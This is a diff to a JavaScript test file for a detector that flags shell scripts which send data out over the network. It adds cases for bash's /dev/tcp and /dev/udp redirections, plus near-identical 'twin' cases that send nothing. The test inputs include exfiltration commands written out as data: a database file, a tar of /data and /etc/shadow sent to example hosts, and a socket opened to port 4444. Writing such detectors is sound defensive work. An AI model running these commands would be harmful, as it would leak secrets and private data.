@@ -252,3 +252,25 @@ describe("the systemd units a script writes", () => {
     ).toEqual(["/usr/bin/rsync    -a /d h.example.de:/x", "/bin/true"]);
   });
 });
+
+// Found by the scripts bench: bash's /dev/tcp redirection, a connection with no command of its
+// own, passed where `nc host port` of the same data failed.
+describe("bash's /dev/tcp and /dev/udp redirections", () => {
+  it.each([
+    ["cat /var/lib/app/db.sqlite > /dev/tcp/h.example.de/9000", "/dev/tcp → host h.example.de"],
+    ["exec 3<>/dev/tcp/203.0.113.9/4444", "/dev/tcp → host 203.0.113.9"],
+    ["tar cz /data &>/dev/udp/h.example.de/514", "/dev/udp → host h.example.de"],
+    ['cat /etc/shadow >> "/dev/tcp/$HOST/9000"', "/dev/tcp → unread /dev/tcp/$HOST/9000"],
+  ])("%s sends", (script, expected) => {
+    expect(sends(script)).toEqual([expected]);
+  });
+
+  it.each([
+    "cat < /dev/tcp/h.example.de/80",
+    "exec 3</dev/tcp/h.example.de/80",
+    'echo "> /dev/tcp/h.example.de/9000"',
+    "cat /data > /dev/null",
+  ])("twin: %s sends nothing", (script) => {
+    expect(sends(script)).toEqual([]);
+  });
+});
